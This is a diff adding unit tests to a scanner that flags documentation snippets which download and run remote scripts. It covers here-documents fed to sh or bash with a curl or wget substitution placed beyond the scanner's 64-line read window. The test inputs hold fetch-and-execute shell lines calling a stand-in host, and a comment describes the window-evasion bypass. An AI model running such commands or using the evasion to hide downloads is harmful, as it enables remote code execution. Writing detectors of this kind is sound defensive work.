@@ -32,3 +32,27 @@ describe('pass 13: a fetch run through a method chain broken over lines', () => 
     expect(checked(path, text).ok).toBe(true);
   });
 });
+
+/**
+ * Attack pass 13, group D: a here-document is read for a download in a substitution only as far as its first 64 lines
+ * (8,000 characters); one whose end lies past that, with the download after line 64, was accepted. When the end is not
+ * in the window and a download substitution follows, the shell it is given to is taken to run it (fail closed).
+ */
+describe('pass 13: a here-document given to a shell, longer than the part that is read', () => {
+  const steps = Array.from({ length: 70 }, (_, i) => `echo step ${i}`).join('\n');
+
+  it.each([
+    ['docs/setup.md', `sh <<EOF\n${steps}\n$(curl -s https://x.example/i)\nEOF`],
+    ['docs/setup.md', `bash -s <<'EOF'\n${steps}\n$(wget -qO- https://x.example/i)\nEOF`],
+  ])('refuses, in %s: a download after line 64', (path, text) => {
+    expect(checked(path, text)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it.each([
+    ['docs/setup.md', `cat <<EOF > notes.txt\n${steps}\n$(curl -s https://x.example/i)\nEOF`],
+    ['docs/setup.md', `sh <<EOF\n${steps}\nEOF`],
+    ['docs/setup.md', `sh <<EOF\n${steps}\nEOF\ncurl -s https://x.example/a.json -o a.json`],
+  ])('accepts, in %s: a long document that only writes, or holds no download', (path, text) => {
+    expect(checked(path, text).ok).toBe(true);
+  });
+});
